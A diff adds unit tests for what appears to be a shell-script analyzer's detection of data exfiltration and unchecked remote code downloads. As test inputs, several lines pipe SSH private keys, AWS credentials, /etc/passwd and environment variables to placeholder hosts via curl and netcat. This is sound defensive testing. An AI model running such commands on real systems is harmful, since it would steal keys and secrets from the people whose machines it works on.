@@ -252,3 +252,46 @@ def test_hostile_input_does_not_raise() -> None:
 )
 def test_script_entry_files(script: str, files: list[str]) -> None:
     assert script_entry_files(script) == files
+
+
+@pytest.mark.parametrize(
+    ("script", "source"),
+    [
+        ("curl -sd @$HOME/.ssh/id_rsa https://c.example.invalid/k", "sensitive-file"),
+        ("curl -F f=@~/.aws/credentials https://c.example.invalid/k", "sensitive-file"),
+        ("curl --data-binary=@/etc/passwd https://c.example.invalid/k", "sensitive-file"),
+        ("curl -T /etc/passwd ftp://c.example.invalid/", "sensitive-file"),
+        ("cat /opt/* | base64 | curl -d @- https://c.example.invalid/u", "host-files"),
+        ("tar czf - ~/.ssh | nc 192.0.2.1 4444", "sensitive-file"),
+        ("env | curl -d @- https://c.example.invalid/u", "env-all"),
+    ],
+)
+def test_upload_of_secrets_or_host_files_is_exfiltration(script: str, source: str) -> None:
+    found = one(analyze_shell(f"echo start\n{script}\n", "x.sh"), "dataExfiltration")
+    assert (found.file, found.line) == ("x.sh", 2)
+    assert found.props["source"] == [source]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "curl --data-binary @coverage.xml https://ci.example.invalid/upload",
+        "cat coverage.xml | curl --data-binary @- https://ci.example.invalid/upload",
+        "curl -d '{\"a\": 1}' https://api.example.invalid/x",
+        "cat ~/.ssh/config | grep Host",
+    ],
+)
+def test_upload_of_project_files_is_not_exfiltration(script: str) -> None:
+    assert not of_type(analyze_shell(script, "x.sh"), "dataExfiltration")
+
+
+@pytest.mark.parametrize(
+    "check",
+    [
+        'echo "$SUM  tool" | sha256sum -c -',
+        '[ "$(sha256sum tool | cut -c1-64)" = "$SUM" ] || exit 1',
+    ],
+)
+def test_download_checked_by_digest_before_it_runs_is_not_remote_code(check: str) -> None:
+    script = f"curl -fsSLo tool {URL}\n{check}\nchmod +x tool\n./tool\n"
+    assert not of_type(analyze_shell(script, "x.sh"), "remoteCodeDownload")
